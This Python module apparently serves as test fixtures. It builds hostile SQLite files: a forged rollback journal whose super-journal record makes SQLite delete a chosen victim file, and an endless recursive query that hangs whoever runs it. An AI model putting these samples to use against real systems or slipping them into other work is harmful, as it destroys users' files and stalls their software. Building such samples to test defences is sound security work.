"""SQLite files that do harm to whoever opens them as SQLite does, and the way of opening them that they harm."""

import sqlite3
import struct
from contextlib import closing
from pathlib import Path

JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")
ENDLESS = "with recursive n(x) as (select 1 union all select x + 1 from n)"


def database(path: Path, *scripts: str) -> bytes:
    """The bytes of a database that the scripts make; it has a table `menu` with one row."""
    path.unlink(missing_ok=True)
    with closing(sqlite3.connect(path)) as made:
        for script in ("create table menu (name text); insert into menu values ('soup')", *scripts):
            made.executescript(script)
    return path.read_bytes()


def journal_naming(content: bytes, victim: Path) -> bytes:
    """A rollback journal that belongs to several databases at once: SQLite deletes the list of them, `victim`."""
    page_size = struct.unpack(">H", content[16:18])[0]
    page = content[:page_size]
    head = JOURNAL_MAGIC + struct.pack(">5I", 1, 0, len(content) // page_size, 512, page_size)
    page_sum = sum(page[page_size - 200 : 0 : -200])
    record = struct.pack(">I", 1) + page + struct.pack(">I", page_sum)
    name = str(victim).encode()
    listed = struct.pack(">I", (1 << 30) // page_size + 1) + name + struct.pack(">2I", len(name), sum(name))
    return head.ljust(512, b"\0") + record + listed + JOURNAL_MAGIC
